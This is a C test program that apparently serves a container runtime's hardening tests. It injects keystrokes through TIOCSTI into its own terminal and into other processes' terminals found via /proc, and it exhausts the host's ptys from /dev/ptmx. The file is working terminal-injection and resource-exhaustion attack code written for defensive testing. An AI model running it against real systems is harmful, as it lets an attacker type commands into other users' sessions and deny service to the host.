/* A hostile process for rlxc's hardening tests, run inside a container.
 *   inject TEXT            push TEXT as keystrokes (TIOCSTI) into fds 0, 1 and 2
 *   inject --watch S TEXT  for S seconds, push TEXT into every other process's fd 0
 *                          that is a terminal (a bystander watching /proc)
 *   inject --ptys          open ptys from /dev/ptmx until the kernel refuses; print
 *                          how many (a container hoarding the host's ptys)
 * Prints how many descriptors took the keystrokes. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>

static int push(int fd, const char *s) {
    for (const char *p = s; *p; p++)
        if (ioctl(fd, TIOCSTI, p) != 0)
            return 0;
    return 1;
}

static int watch(int seconds, const char *s) {
    int hits = 0, done[4096] = {0};
    time_t end = time(NULL) + seconds;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid() || pid >= 4096 || done[pid])
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
            int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
            if (fd < 0)
                continue;
            if (isatty(fd)) {
                done[pid] = 1;
                hits += push(fd, s);
            }
            close(fd);
        }
        if (d)
            closedir(d);
        usleep(2000);
    }
    return hits;
}

static int hoard_ptys(void) {
    int n = 0;
    while (n < 100000 && open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0)
        n++;
    printf("ptys=%d\n", n);
    return 0;
}

int main(int argc, char **argv) {
    int hits = 0;
    if (argc == 2 && strcmp(argv[1], "--ptys") == 0)
        return hoard_ptys();
    if (argc == 4 && strcmp(argv[1], "--watch") == 0) {
        hits = watch(atoi(argv[2]), argv[3]);
    } else if (argc == 2) {
        for (int fd = 0; fd < 3; fd++)
            hits += push(fd, argv[1]);
    } else {
        fprintf(stderr, "usage: inject TEXT | inject --watch SECONDS TEXT\n");
        return 2;
    }
    printf("injected-through=%d\n", hits);
    fflush(stdout);
    return 0;
}
